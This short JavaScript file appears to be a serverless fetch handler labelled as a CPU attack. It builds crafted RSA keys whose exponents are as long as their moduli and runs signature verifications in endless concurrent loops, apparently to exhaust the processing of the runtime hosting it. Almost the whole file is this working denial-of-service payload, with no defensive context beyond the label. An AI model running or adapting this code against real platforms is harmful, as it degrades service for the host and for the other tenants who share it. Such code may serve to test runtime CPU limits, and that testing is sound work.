// attack: CPU: RSA verifications under keys made up for it, with exponents as long as the modulus, on the thread of all
const ones = (bytes) => btoa("\xff".repeat(bytes)).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");

async function verifyForever(modulusBytes, exponentBytes) {
  const algorithm = { name: "RSASSA-PKCS1-v1_5", hash: "SHA-256" };
  const jwk = { kty: "RSA", n: ones(modulusBytes), e: ones(exponentBytes) };
  const key = await crypto.subtle.importKey("jwk", jwk, algorithm, false, ["verify"]);
  for (;;) await crypto.subtle.verify(algorithm, key, new Uint8Array(modulusBytes), new Uint8Array(10));
}

export default {
  async fetch() {
    const keys = [
      [384, 383],
      [2_048, 8],
      [1_024, 8],
      [384, 8],
    ];
    await Promise.allSettled(keys.map(([modulusBytes, exponentBytes]) => verifyForever(modulusBytes, exponentBytes)));
    return new Response("verified");
  },
};
